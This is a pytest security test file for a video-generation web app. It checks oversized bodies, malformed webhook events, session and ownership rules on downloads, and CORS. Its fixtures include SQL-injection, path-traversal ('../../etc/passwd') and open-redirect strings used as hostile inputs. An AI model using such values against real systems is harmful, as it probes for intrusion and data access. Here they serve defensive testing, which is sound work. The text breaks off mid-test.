"""Issue H — HTTP and upload abuse. Each scenario records its figure (`figure(...)`).

1. schemathesis against the /api app's own schema (the Stripe webhook, health) with half of the
   generated events validly signed, and against the admin API through its mount: no 5xx for any
   generated case; every admin operation without the token is 401.
2. Bodies: malformed JSON, wrong types, 20 MiB bodies with and without a Content-Length, a huge
   declared length with a tiny body -> 4xx (413 for too large), answered at once, the body not read
   (the app's reads are counted by a raw ASGI driver, its memory by tracemalloc).
3. Uploads through the entry point the UI uses (`_spool_and_ingest`, fed like Reflex's chunk
   iterator) and through the real /_upload route: damaged and disguised files, bombs, 0 bytes,
   path-traversal / NUL / huge / unicode names, another user's task. Nothing may land outside the
   storage root, nothing is stored for a refusal, the spool folder is left empty.
4. The download route: no session 401, forged / revoked / expired / blocked session 401, someone
   else's run (or a junk id) 404.
5. CORS: foreign origins get no Access-Control-Allow-Origin on any /api route or /_upload; ours does.

Existing tests not repeated here: admin API body validation and its token-holding schemathesis run
(test_admin_api.py), webhook signatures and redeliveries (test_billing.py), probe refusals one by
one (test_media.py), the streamed upload over the size limit (test_tasks.py), /ping CORS
(test_app.py).
"""

from __future__ import annotations

import asyncio
import functools
import io
import json
import os
import struct
import sys
import time
import tracemalloc
import uuid
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import anyio
import pytest
import schemathesis
import stripe
from fastapi import FastAPI, Request
from hypothesis import HealthCheck, given, settings
from hypothesis.errors import Unsatisfiable
from schemathesis import GenerationMode
from schemathesis.checks import (
    content_type_conformance,
    not_a_server_error,
    response_schema_conformance,
    status_code_conformance,
)
from sqlmodel import select
from starlette.testclient import TestClient

from tests.helpers import login_session, make_user
from vgen_app import clock
from vgen_app.adapters import storage as storage_mod
from vgen_app.api.app import create_api
from vgen_app.api.internal import create_internal_api
from vgen_app.api.limits import BodyLimitMiddleware
from vgen_app.config import get_settings, reset_settings
from vgen_app.db import session_scope, with_db
from vgen_app.models import Run, TaskInput, UserSession
from vgen_app import catalog
from vgen_app.services import accounts, ledger, sessions, tasks

ORIGIN = "http://localhost:3000"
ADMIN_TOKEN = "abuse-admin-token-0123456789abcdef"
AUTH = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
WEBHOOK_SECRET = "whsec_abuse_tests"
MiB = 1024 * 1024
CHUNK = 64 * 1024


def sign(payload: bytes) -> str:
    return stripe.WebhookSignature.generate_signature_header(payload.decode(), WEBHOOK_SECRET)


@pytest.fixture
def secrets_set(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ADMIN_TOKEN", ADMIN_TOKEN)
    monkeypatch.setenv("STRIPE_WEBHOOK_SECRET", WEBHOOK_SECRET)
    reset_settings()


SQLITE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
BOTH = pytest.mark.parametrize("database_url", ["sqlite", "postgres"], indirect=True)


@pytest.fixture
def storage_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Storage and the upload spool inside a `jail/` folder of tmp_path, so that anything written
    beside them (a `../` that got through) is seen by `files_under(tmp_path)`."""
    root = tmp_path / "jail" / "storage"
    monkeypatch.setenv("STORAGE_URL", f"file://{root}")
    monkeypatch.setenv("UPLOAD_TMP_DIR", str(tmp_path / "jail" / "spool"))
    reset_settings()
    storage_mod._cache.clear()
    yield root
    storage_mod._cache.clear()


@pytest.fixture
def client(
    asgi_app: Any, database_url: str, secrets_set: None, storage_root: Path
) -> Iterator[TestClient]:
    """The whole app (Reflex + the /api sub-app), lifespan running; a server error is a 500
    response here (as a client would see it), not an exception. Every setting is in the
    environment before the lifespan starts: its worker threads read the settings, and one that
    reads them while a fixture changes the environment can cache a stale copy (the storage root
    of the repo's var/ instead of this test's)."""
    with TestClient(asgi_app, base_url=ORIGIN, raise_server_exceptions=False) as c:
        settings = get_settings()
        assert settings.storage_url == f"file://{storage_root}", settings.storage_url
        assert settings.admin_token == ADMIN_TOKEN
        yield c


# --- a raw ASGI driver: counts what the app reads of a request body ---------------------------------


@dataclass
class Exchange:
    status: int
    headers: dict[str, str]
    body: bytes
    read: int  # request body bytes the app pulled through `receive`
    seconds: float

    def json(self) -> Any:
        return json.loads(self.body)


async def _drive(
    app: Any, method: str, path: str, headers: dict[str, str], chunks: Iterable[bytes]
) -> Exchange:
    """One request, its body fed chunk by chunk (`more_body`), the way a server streams a chunked
    upload: the app only gets what it asks for."""
    pieces = iter(chunks)
    read = 0
    sent_all = False
    done = anyio.Event()
    status, out_headers, body = 0, {}, bytearray()
    raw_path, _, query = path.partition("?")

    async def receive() -> dict[str, Any]:
        nonlocal read, sent_all
        if sent_all:
            await done.wait()
            return {"type": "http.disconnect"}
        piece = next(pieces, None)
        if piece is None:
            sent_all = True
            return {"type": "http.request", "body": b"", "more_body": False}
        read += len(piece)
        return {"type": "http.request", "body": piece, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]
            out_headers.update(
                {k.decode().lower(): v.decode() for k, v in message.get("headers", [])}
            )
        elif message["type"] == "http.response.body":
            body.extend(message.get("body", b""))
            if not message.get("more_body"):
                done.set()

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": raw_path,
        "raw_path": raw_path.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode("latin-1")) for k, v in headers.items()],
        "client": ("127.0.0.1", 50000),
        "server": ("localhost", 3000),
        "state": {},
    }
    start = time.perf_counter()
    with anyio.fail_after(30):
        await app(scope, receive, send)
    return Exchange(status, out_headers, bytes(body), read, time.perf_counter() - start)


def drive(
    client: TestClient,
    app: Any,
    method: str,
    path: str,
    headers: dict[str, str],
    chunks: Iterable[bytes] = (),
) -> Exchange:
    """Run `_drive` on the TestClient's event loop (the app's lifespan lives there)."""
    return client.portal.call(functools.partial(_drive, app, method, path, headers, chunks))


def json_stream(total: int) -> Iterator[bytes]:
    """`total` bytes of one JSON object, made lazily in 64 KiB chunks (never whole in memory)."""
    yield b'{"userID": "'
    left = total - 14
    while left > 0:
        n = min(CHUNK, left)
        left -= n
        yield b"a" * n
    yield b'"}'


# --- 1. schemathesis ---------------------------------------------------------------------------------

API_APP = create_api()  # the /api sub-app on its own: webhook, health, auth, files, the admin mount
# Built from the app object: the root app serves no /openapi.json (those paths are the pages').
API_SCHEMA = schemathesis.openapi.from_dict(API_APP.openapi())
API_SCHEMA.app = API_APP
ADMIN_SCHEMA = schemathesis.openapi.from_asgi("/openapi.json", create_internal_api())

FUZZ = settings(
    max_examples=30,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)


def _operations(schema: Any) -> list[Any]:
    return [result.ok() for result in schema.get_all_operations()]


def _fuzz(schema: Any, check: Callable[[schemathesis.Case], None]) -> int:
    """`check` every generated case, positive and negative, of every operation; the count."""
    operations = _operations(schema)
    for operation in operations:
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):

            @FUZZ
            @given(case=operation.as_strategy(generation_mode=mode))
            def run(case: schemathesis.Case) -> None:
                check(case)

            try:
                run()
            except Unsatisfiable:
                if mode is GenerationMode.POSITIVE:
                    raise  # no negative case exists for an operation without inputs (GET /health)
    return len(operations)


def test_webhook_schema_is_served_by_the_app_object() -> None:
    paths = API_APP.openapi()["paths"]
    op = paths["/api/webhooks/stripe"]["post"]
    assert op["requestBody"]["content"]["application/json"]["schema"]["required"] == [
        "id",
        "type",
        "data",
    ]
    assert [p["name"] for p in op["parameters"]] == ["Stripe-Signature"]
    assert {"200", "400", "413"} <= set(op["responses"])


def _steer_event(body: dict[str, Any], user_id: str) -> None:
    """Push some generated events towards the crediting path (the rest stay as generated)."""
    body["type"] = "checkout.session.completed"
    data = body.get("data")
    if isinstance(data, dict) and isinstance(data.get("object"), dict):
        obj = data["object"]
        obj.update(object="checkout.session", payment_status="paid")
        if len(json.dumps(obj)) % 2:
            obj.update(amount_total=1000, currency="usd")
            obj.setdefault("metadata", {})
            if isinstance(obj["metadata"], dict):
                obj["metadata"].update(user_id=user_id, package_id="10k")


@pytest.mark.parametrize("database_url", ["sqlite", "postgres"], indirect=True)
def test_schemathesis_webhook_and_health_no_5xx(
    database_url: str, secrets_set: None, figure: Any
) -> None:
    """Positive and negative cases for the /api app's operations; half of the webhook's generated
    events are signed with the real secret (and some steered to a paid checkout), so the fuzz gets
    past the signature into the event handling."""
    uid = with_db(make_user, "fuzz@example.com")
    seen: Counter[str] = Counter()
    checks = [
        not_a_server_error,
        status_code_conformance,
        content_type_conformance,
        response_schema_conformance,
    ]
    paths = {op.path for op in _operations(API_SCHEMA)}
    assert paths >= {"/api/webhooks/stripe", "/api/health"}

    def check(case: schemathesis.Case) -> None:
        kwargs: dict[str, Any] = {}
        webhook = case.operation.path == "/api/webhooks/stripe"
        if webhook and isinstance(case.body, dict) and len(json.dumps(case.body, default=str)) % 2:
            if len(case.body) % 2:
                _steer_event(case.body, uid)
            payload = json.dumps(case.body).encode()
            kwargs = {"data": payload}  # these exact bytes, signed
            case.headers = {
                **(case.headers or {}),
                "Stripe-Signature": sign(payload),
                "Content-Type": "application/json",
            }
        response = case.call_and_validate(checks=checks, **kwargs)
        if response.request.headers.get("Stripe-Signature", "").startswith("t="):
            seen["signed"] += 1
            if response.status_code == 400:
                assert response.json() != {"error": "invalid signature"}  # the bytes were signed
        seen[f"{case.method.upper()} {case.operation.path} {response.status_code}"] += 1

    operations = _fuzz(API_SCHEMA, check)
    statuses = sorted(seen.items())
    assert not any(" 5" in key for key in seen)
    total = sum(v for k, v in seen.items() if k != "signed")
    figure(
        f"{total} generated requests ({seen['signed']} webhook events validly signed) to "
        f"{operations} operations: 0 5xx; {dict(statuses)}"
    )


@pytest.mark.parametrize("authorization", [None, "Bearer wrong-token", "Basic " + ADMIN_TOKEN])
def test_schemathesis_admin_without_the_token_is_always_401(
    secrets_set: None, authorization: str | None, figure: Any
) -> None:
    """Every operation of the admin API, positive and negative cases, through its mount in the /api
    app (with the body cap in front): without the right token, 401 whatever the request."""
    seen: Counter[int] = Counter()

    def check(case: schemathesis.Case) -> None:
        headers = {k: v for k, v in (case.headers or {}).items() if k.lower() != "authorization"}
        if authorization is not None:
            headers["Authorization"] = authorization
        case.headers = headers
        response = case.call(app=API_APP, base_url="http://testserver/api/internal")
        seen[response.status_code] += 1
        params = case.path_parameters or {}
        if any("\n" in unquote(str(v)) for v in params.values()):
            # The mount's pattern (`/api/internal/{path:path}`, `.*`) stops at a newline: no
            # operation is reached, the router answers its generic 404.
            assert (response.status_code, response.json()) == (404, {"detail": "Not Found"})
            return
        assert response.status_code == 401, (params, response.request.url, response.text)
        assert response.headers["www-authenticate"][0].startswith("Bearer")

    operations = _fuzz(ADMIN_SCHEMA, check)
    figure(
        f"Authorization={authorization!r}: {sum(seen.values())} generated calls to "
        f"{operations} admin operations -> {dict(seen)}"
    )


@pytest.mark.parametrize("database_url", ["postgres"], indirect=True)
def test_schemathesis_admin_with_the_token_on_postgres_no_5xx(
    database_url: str, secrets_set: None, figure: Any
) -> None:
    """test_admin_api.py fuzzes the admin app alone on SQLite; this is the same schema through the
    mount and the body cap, on PostgreSQL (which refuses NUL bytes SQLite stores)."""
    uid = with_db(make_user, "fuzz@example.com")
    seen: Counter[int] = Counter()

    def check(case: schemathesis.Case) -> None:
        body, path = case.body, case.path_parameters
        user_id = body.get("userID") if isinstance(body, dict) else None
        if isinstance(user_id, str) and len(user_id) % 2:
            body["userID"] = uid
        if path and isinstance(path.get("userID"), str) and len(path["userID"]) % 2:
            path["userID"] = uid
        # In the case's own headers: a `headers=` argument to call() is dropped for the negative
        # cases that test a missing token (the other test's subject).
        headers = {k: v for k, v in (case.headers or {}).items() if k.lower() != "authorization"}
        case.headers = {**headers, **AUTH}
        response = case.call(app=API_APP, base_url="http://testserver/api/internal")
        seen[response.status_code] += 1
        assert response.status_code < 500, (case.path, case.body, response.text)

    _fuzz(ADMIN_SCHEMA, check)
    assert not any(code >= 500 for code in seen)
    figure(f"{sum(seen.values())} generated calls with the token, on PostgreSQL: {dict(seen)}")


# --- 2. bodies: malformed, wrong types, huge -----------------------------------------------------------

# (method, path, headers): every /api route, as an anonymous caller would reach it.
API_ROUTES = [
    ("POST", "/api/webhooks/stripe", {"Stripe-Signature": "t=1,v1=00"}),
    ("PUT", "/api/internal/balance", AUTH),
    ("PUT", "/api/internal/user", {}),
    ("POST", "/api/auth/logout", {}),
    ("GET", "/api/auth/session?ticket=x", {}),
    ("GET", "/api/runs/abc/result", {}),
    ("GET", "/api/health", {}),
]
ROUTE_IDS = [f"{m} {p.split('?')[0]}" for m, p, _ in API_ROUTES]


@SQLITE
@pytest.mark.parametrize(("method", "path", "headers"), API_ROUTES, ids=ROUTE_IDS)
def test_huge_declared_body_is_413_before_anything_is_read(
    client: TestClient, asgi_app: Any, method: str, path: str, headers: dict, figure: Any
) -> None:
    """20 MiB announced by Content-Length (and a 1 TB announcement with a 10-byte body): 413 from
    the /api body cap before the route runs — not a byte of the body is read."""
    for declared, chunks in ((20 * MiB, json_stream(20 * MiB)), (10**12, [b'{"a": 1}  '])):
        ex = drive(
            client,
            asgi_app,
            method,
            path,
            {**headers, "Content-Type": "application/json", "Content-Length": str(declared)},
            chunks,
        )
        assert ex.status == 413, ex.body
        assert ex.read == 0 and ex.json()["detail"].startswith("The body is larger than")
        assert ex.seconds < 1.0
    figure(
        f"{method} {path}: 20 MiB and 10^12 B declared -> 413, 0 B read, {ex.seconds * 1000:.0f} ms"
    )


# What each route does with 20 MiB sent chunked (no Content-Length): (status, most bytes read).
CHUNKED_EXPECTED = {
    "POST /api/webhooks/stripe": (413, 512 * 1024 + CHUNK),  # its own 512 KiB cap, while reading
    "PUT /api/internal/balance": (413, 64 * 1024 + CHUNK),  # token given: the admin 64 KiB cap
    "PUT /api/internal/user": (401, 0),  # no token: refused before the body is read
    "POST /api/auth/logout": (200, 0),  # takes no body: never reads it (no session, nothing done)
    "GET /api/auth/session": (303, 0),  # bad ticket: redirected to /login, body never read
    "GET /api/runs/abc/result": (401, 0),
    "GET /api/health": (200, 0),
}


@SQLITE
@pytest.mark.parametrize(("method", "path", "headers"), API_ROUTES, ids=ROUTE_IDS)
def test_huge_chunked_body_is_never_read_whole(
    client: TestClient, asgi_app: Any, method: str, path: str, headers: dict, figure: Any
) -> None:
    """20 MiB with no Content-Length (a chunked upload): a route that reads bodies stops at its cap
    with 413; the others answer without reading. Memory stays flat (tracemalloc peak)."""
    status, most = CHUNKED_EXPECTED[f"{method} {path.split('?')[0]}"]
    tracemalloc.start()
    try:
        ex = drive(
            client,
            asgi_app,
            method,
            path,
            {**headers, "Content-Type": "application/json", "Transfer-Encoding": "chunked"},
            json_stream(20 * MiB),
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert ex.status == status, ex.body
    assert ex.read <= most
    assert peak < 4 * MiB, peak  # 20 MiB read whole would peak above 20 MiB
    assert ex.seconds < 5.0
    figure(
        f"{method} {path}: 20 MiB chunked -> {ex.status}, read {ex.read // 1024} KiB, "
        f"peak +{peak / MiB:.1f} MiB, {ex.seconds * 1000:.0f} ms"
    )


@SQLITE
@pytest.mark.parametrize("length", ["abc", "-1", "1e9", "12 34", "9" * 40, "0x10"])
def test_malformed_content_length_is_400(
    client: TestClient, asgi_app: Any, length: str, figure: Any
) -> None:
    for method, path, headers in API_ROUTES:
        ex = drive(client, asgi_app, method, path, {**headers, "Content-Length": length}, [b"{}"])
        assert ex.status == 400 and ex.read == 0, (path, ex.body)
    figure(f"Content-Length {length!r} on {len(API_ROUTES)} routes -> 400, 0 B read")


@SQLITE
def test_body_cap_is_a_setting(
    client: TestClient, asgi_app: Any, monkeypatch: pytest.MonkeyPatch, figure: Any
) -> None:
    """API_MAX_BODY_BYTES: the cap for every /api route, from the declared length or while
    streaming; Reflex's own paths (/_upload has its per-slot limit) are not under it."""
    monkeypatch.setenv("API_MAX_BODY_BYTES", "2048")
    reset_settings()
    small = drive(
        client, asgi_app, "POST", "/api/auth/logout", {"Content-Length": "2048"}, [b" " * 2048]
    )
    big = drive(
        client, asgi_app, "POST", "/api/auth/logout", {"Content-Length": "2049"}, [b" " * 2049]
    )
    assert (small.status, big.status) == (200, 413)
    assert big.json() == {"detail": "The body is larger than 2048 bytes."}
    upload = drive(client, asgi_app, "POST", "/_upload", {"Content-Length": str(10 * MiB)}, [b"x"])
    assert upload.status == 400 and b"larger than" not in upload.body  # Reflex's answer, not ours
    figure("API_MAX_BODY_BYTES=2048: 2048 B -> 200, 2049 B -> 413; /_upload not under the /api cap")


def test_the_cap_stops_a_route_that_reads_everything(figure: Any) -> None:
    """The middleware itself, around a route that reads whole bodies (none of ours does, but the
    next one might): a chunked body is cut off at the cap with 413; other paths are untouched."""
    app = FastAPI()
    app.add_middleware(BodyLimitMiddleware, max_bytes=100_000)

    @app.post("/api/echo")
    async def echo(request: Request) -> dict:
        return {"n": len(await request.body())}

    @app.post("/other/echo")
    async def other_echo(request: Request) -> dict:
        return {"n": len(await request.body())}

    async def main() -> list[Exchange]:
        def body() -> Iterator[bytes]:
            return (b"x" * CHUNK for _ in range(160))  # 10 MiB

        return [
            await _drive(app, "POST", "/api/echo", {}, body()),
            await _drive(app, "POST", "/other/echo", {}, body()),
            await _drive(app, "POST", "/api/echo", {}, [b"x" * 100_000]),
        ]

    capped, other, fits = anyio.run(main)
    assert capped.status == 413 and capped.read <= 100_000 + CHUNK
    assert capped.json() == {"detail": "The body is larger than 100000 bytes."}
    assert (other.status, other.json()) == (200, {"n": 10 * MiB})
    assert (fits.status, fits.json()) == (200, {"n": 100_000})
    figure(
        f"a route reading whole bodies behind a 100 kB cap: 10 MiB chunked -> 413 after "
        f"{capped.read // 1024} KiB; outside /api untouched ({other.read // MiB} MiB read)"
    )


# (body, outcome): "refused" is a 400, "ignored" a 200 that credits nothing.
SIGNED_JUNK = [
    (b"{", "refused"),
    (b"not json", "refused"),
    (b"[]", "refused"),
    (b'"text"', "refused"),
    (b"null", "refused"),
    (b"\xef\xbb\xbf{}", "refused"),
    (b'{"a":' * 5000 + b"1" + b"}" * 5000, "refused"),  # nested too deeply for json.loads
    (b'{"id": "evt", "type": ["checkout.session.completed"], "data": {}}', "refused"),
    (b'{"id": "evt", "type": {"a": 1}, "data": {}}', "refused"),
    (b'{"id": "evt", "type": "checkout.session.completed", "data": [1]}', "refused"),
    (b'{"id": "evt", "type": "checkout.session.completed", "data": "x"}', "refused"),
    (b'{"id": "evt", "type": "checkout.session.completed", "data": 7}', "refused"),
    (b'{"id": "evt", "type": "checkout.session.completed", "data": {"object": [1]}}', "ignored"),
    (b'{"id": "evt", "type": "checkout.session.completed", "data": {"object": "x"}}', "ignored"),
]


def _paid(obj: dict[str, Any], event_id: Any = "evt_x") -> bytes:
    base = {
        "object": "checkout.session",
        "mode": "payment",
        "payment_status": "paid",
        "amount_total": 1000,
        "currency": "usd",
    }
    event = {
        "id": event_id,
        "type": "checkout.session.completed",
        "data": {"object": {**base, **obj}},
    }
    return json.dumps(event).encode()


def _paid_junk(uid: str) -> list[tuple[bytes, str]]:
    """Paid 10k checkouts for a real user, each with one field of the wrong type or size."""
    meta = {"user_id": uid, "package_id": "10k"}
    return [
        (_paid({"id": {"a": 1}, "metadata": meta}), "refused"),
        (_paid({"id": ["cs"], "metadata": meta}), "refused"),
        (_paid({"id": "cs_" + "x" * 5000, "metadata": meta}), "refused"),  # over its 255 chars
        (_paid({"id": "cs_nul\u0000", "metadata": meta}), "refused"),  # PostgreSQL refuses NUL
        (_paid({"id": "cs_meta_list", "metadata": ["x"]}), "ignored"),
        (_paid({"id": "cs_meta_str", "metadata": "x"}), "ignored"),
        (_paid({"id": "cs_uid_long", "metadata": {**meta, "user_id": "u" * 500}}), "refused"),
        (_paid({"id": "cs_uid_nul", "metadata": {**meta, "user_id": "ab\u0000"}}), "refused"),
        (_paid({"id": "cs_uid_int", "metadata": {**meta, "user_id": 12}}), "ignored"),
        (_paid({"id": "cs_pkg_list", "metadata": {**meta, "package_id": ["10k"]}}), "ignored"),
        (_paid({"id": "cs_amount_str", "amount_total": "1000", "metadata": meta}), "ignored"),
        (_paid({"id": "cs_amount_huge", "amount_total": 10**40, "metadata": meta}), "ignored"),
        (_paid({"id": "cs_currency_list", "currency": ["usd"], "metadata": meta}), "ignored"),
        (_paid({"id": "cs_mode_list", "mode": ["payment"], "metadata": meta}), "ignored"),
        (_paid({"id": "cs_status_list", "payment_status": ["paid"], "metadata": meta}), "ignored"),
        (_paid({"id": "cs_evt_id_obj", "metadata": meta}, event_id={"a": 1}), "refused"),
        (_paid({"id": "cs_evt_id_null", "metadata": meta}, event_id=None), "credited"),
        (_paid({"id": "cs_evt_id_long", "metadata": meta}, event_id="e" * 5000), "credited"),
    ]


@BOTH
def test_webhook_malformed_and_wrong_types_are_4xx_or_ignored(
    client: TestClient, database_url: str, figure: Any
) -> None:
    """Unsigned junk never gets past the signature (400); signed junk — something only a holder of
    the secret can send — is refused (400) or ignored (200), never a 500, and credits nothing."""
    uid = with_db(make_user, "ann@example.com")
    url = "/api/webhooks/stripe"
    outcomes: Counter[str] = Counter()
    wrong = []
    cases = SIGNED_JUNK + _paid_junk(uid)
    for body, expected in cases:
        unsigned = client.post(url, content=body, headers={"Content-Type": "application/json"})
        assert unsigned.status_code == 400
        signed = client.post(
            url,
            content=body,
            headers={"Stripe-Signature": sign(body), "Content-Type": "application/json"},
        )
        got = (
            "refused"
            if signed.status_code == 400
            else signed.json()["status"]
            if signed.status_code == 200
            else str(signed.status_code)
        )
        outcomes[got] += 1
        if got != expected:
            wrong.append((body[:200], expected, signed.status_code, signed.text[:100]))
    assert not wrong, wrong
    with session_scope() as db:  # the two well-formed payments with odd event ids, nothing else
        assert ledger.balance_of(db, uid) == 10_000 * outcomes["credited"] == 20_000
    n = len(cases)
    figure(
        f"{n} malformed events: unsigned -> 400 each; signed -> {dict(outcomes)}, 0 5xx; "
        f"credited only the 2 well-formed payments (null / 5000-char event id)"
    )


@BOTH
def test_auth_routes_take_junk_without_a_5xx(client: TestClient, figure: Any) -> None:
    """Tickets and `next` of every shape, cookies of every shape: a redirect or a 200, never 5xx."""
    tickets = ["", "x", "\x00", "%00", "a" * 10_000, "é", "' OR 1=1 --", "../../etc/passwd", "[]"]
    nexts = ["", "//evil.example", "https://evil.example", "/\\evil", "\x00", "a" * 5000, "/tokens"]
    n = 0
    for ticket in tickets:
        for nxt in nexts:
            r = client.get(
                "/api/auth/session", params={"ticket": ticket, "next": nxt}, follow_redirects=False
            )
            n += 1
            assert r.status_code == 303, (ticket, nxt, r.status_code)
            assert r.headers["location"] == f"{ORIGIN}/login?expired=1"
    cookies = [
        "vgen_session=\x7f",
        "vgen_session=" + "a" * 5000,
        'vgen_session="\\x00"',
        ";;;==",
        "é=é",
    ]
    for cookie in cookies:
        r = client.post("/api/auth/logout", headers={"Cookie": cookie.encode()})
        n += 1
        assert r.status_code == 200 and r.json() == {"ok": True}
    junk = client.post(
        "/api/auth/logout", content=b"{", headers={"Content-Type": "application/json"}
    )
    assert junk.status_code == 200  # takes no body: ignores it
    with session_scope() as db:
        assert db.exec(select(UserSession)).all() == []
    figure(
        f"{n + 1} junk tickets / next / cookies / bodies on the auth routes: 0 5xx, no session made"
    )


# --- 4. the download route: sessions and ownership ------------------------------------------------------


@dataclass
class Downloads:
    run_id: str
    other_run_id: str  # eve's own run
    content: bytes
    tokens: dict[str, str]  # ann, eve (sessions)
    ids: dict[str, str]  # user ids


@pytest.fixture
def downloads(database_url: str, storage_root: Path) -> Downloads:
    """Two users, each with a task and a succeeded run whose result is in storage."""
    content = b"\x00\x00\x00\x18ftypmp42" + os.urandom(50_000)
    storage_root.parent.mkdir(parents=True, exist_ok=True)
    made: dict[str, str] = {}
    runs_by: dict[str, str] = {}
    with session_scope() as db:
        for name in ("ann", "eve"):
            uid = make_user(db, f"{name}@example.com")
            made[name] = uid
            task = tasks.create_task(db, uid, "lipsync", f"{name}'s clip")
            run = Run(
                task_id=task.id,
                owner_id=uid,
                attempt=1,
                status="succeeded",
                progress=1.0,
                price=500,
                model="lipsync",
                inputs={},
                result_key=f"results/{task.id}/{uuid.uuid4().hex}.mp4",
                result_bytes=len(content),
            )
            db.add(run)
            db.commit()
            src = storage_root.parent / f"{name}.mp4"
            src.write_bytes(content)
            storage_mod.get_storage().put_file(run.result_key, src)
            src.unlink()
            runs_by[name] = run.id
        tokens = {name: login_session(db, f"{name}@example.com") for name in made}
    return Downloads(runs_by["ann"], runs_by["eve"], content, tokens, made)


JUNK_RUN_IDS = [
    "nonexistent",
    "%00",
    "abc%00def",
    "a" * 33,
    "a" * 5000,
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e",
    "%E2%80%AE",
    "%27%20OR%201%3D1%20--",
    "%F0%9F%8E%AC",
]


@BOTH
def test_result_download_sessions_and_ownership(
    client: TestClient, downloads: Downloads, figure: Any
) -> None:
    url = f"/api/runs/{downloads.run_id}/result"

    def get(path: str, token: str | None = None, **cookies: str) -> Any:
        jar = {"vgen_session": token} if token is not None else {}
        jar.update(cookies)
        header = "; ".join(f"{k}={v}" for k, v in jar.items())
        return client.get(path, headers={"Cookie": header} if header else {})

    codes: Counter[str] = Counter()
    # No session, a forged one, junk cookies: 401 — the run id is not even looked at.
    for token in (None, "", "forged-token", "x" * 5000, downloads.tokens["ann"] + "x"):
        r = get(url, token)
        assert r.status_code == 401 and r.json() == {"detail": "Log in to download."}, token
        codes["no/forged session 401"] += 1
    r = get(url, other_cookie="1", __Host_vgen_session=downloads.tokens["ann"])
    assert r.status_code == 401  # the cookie's name on https, sent to an http app: not ours
    codes["no/forged session 401"] += 1
    # Someone else's run, and junk ids, with a valid session: 404, same body as unknown.
    r = get(url, downloads.tokens["eve"])
    assert r.status_code == 404 and r.json() == {"detail": "Not found."}
    codes["other user's run 404"] += 1
    for run_id in JUNK_RUN_IDS:
        for who in ("ann", "eve"):
            r = get(f"/api/runs/{run_id}/result", downloads.tokens[who])
            assert r.status_code == 404, (run_id, who, r.status_code, r.text[:200])
            codes["junk run id 404"] += 1
        anonymous = get(f"/api/runs/{run_id}/result").status_code
        if "%2F" in run_id:  # decodes to more path segments: no route matches, nothing is reached
            assert anonymous == 404
        else:
            assert anonymous == 401, run_id
        codes["junk run id, no session 401/404"] += 1
    # The owner gets the bytes; eve gets her own run, never ann's.
    r = get(url, downloads.tokens["ann"])
    assert r.status_code == 200 and r.content == downloads.content
    r = get(f"/api/runs/{downloads.other_run_id}/result", downloads.tokens["eve"])
    assert r.status_code == 200
    # A revoked session (logout), a blocked user, an expired session: 401.
    ann = downloads.tokens["ann"]
    assert (
        client.post("/api/auth/logout", headers={"Cookie": f"vgen_session={ann}"}).status_code
        == 200
    )
    assert get(url, ann).status_code == 401
    codes["revoked session 401"] += 1
    eve = downloads.tokens["eve"]
    with session_scope() as db:
        accounts.set_status(db, downloads.ids["eve"], "blocked")
    assert get(f"/api/runs/{downloads.other_run_id}/result", eve).status_code == 401
    codes["blocked user 401"] += 1
    with session_scope() as db:
        accounts.set_status(db, downloads.ids["eve"], "activated")
        fresh = login_session(db, "ann@example.com")
    assert get(url, fresh).status_code == 200
    clock.travel(timedelta(days=get_settings().session_ttl_days, minutes=1))
    assert get(url, fresh).status_code == 401
    codes["expired session 401"] += 1
    figure(f"{sum(codes.values())} download attempts by non-owners: {dict(codes)}; owner 200")


@BOTH
def test_every_api_route_with_user_data_needs_a_live_session(
    client: TestClient, downloads: Downloads, figure: Any
) -> None:
    """The /api routes that touch a user's data are the download and the two session routes; the
    admin API is token-only and the webhook signature-only (both above). None of them hands a
    cookie, a redirect into the app or any data to a caller without a live session."""
    ann = downloads.tokens["ann"]
    with session_scope() as db:
        sessions.revoke(db, ann)
    for cookie in ("", f"vgen_session={ann}", "vgen_session=forged"):
        headers = {"Cookie": cookie} if cookie else {}
        download = client.get(f"/api/runs/{downloads.run_id}/result", headers=headers)
        assert download.status_code == 401
        redeem = client.get(
            "/api/auth/session", params={"ticket": ann}, headers=headers, follow_redirects=False
        )
        assert redeem.status_code == 303 and "set-cookie" not in redeem.headers
        assert redeem.headers["location"] == f"{ORIGIN}/login?expired=1"
        out = client.post("/api/auth/logout", headers=headers)
        assert out.status_code == 200 and out.json() == {
            "ok": True
        }  # clears the cookie, nothing else
    with session_scope() as db:
        live = {s.user_id for s in db.exec(select(UserSession)) if s.revoked_at is None}
    assert live == {downloads.ids["eve"]}  # eve's untouched, no new one
    figure(
        "revoked / forged / missing cookie on download, session, logout: 401 / 303 to /login / 200 no-op; no session created"
    )


# --- 5. CORS ----------------------------------------------------------------------------------------------

FOREIGN_ORIGINS = [
    "https://evil.example",
    "null",
    "http://localhost:3000.evil.example",
    "http://localhost:3001",
    "https://localhost:3000",
    "http://localhost",
    "http://127.0.0.1:3000",
]
CORS_ROUTES = [
    ("POST", "/api/webhooks/stripe"),
    ("PUT", "/api/internal/balance"),
    ("GET", "/api/internal/users?email=a@example.com"),
    ("GET", "/api/runs/abc/result"),
    ("POST", "/api/auth/logout"),
    ("GET", "/api/auth/session"),
    ("GET", "/api/health"),
    ("POST", "/_upload"),
]


@SQLITE
def test_cors_only_our_origin(client: TestClient, figure: Any) -> None:
    refused = 0
    for method, path in CORS_ROUTES:
        for origin in FOREIGN_ORIGINS:
            pre = client.options(
                path,
                headers={
                    "Origin": origin,
                    "Access-Control-Request-Method": method,
                    "Access-Control-Request-Headers": "content-type, authorization",
                },
            )
            assert "access-control-allow-origin" not in pre.headers, (path, origin)
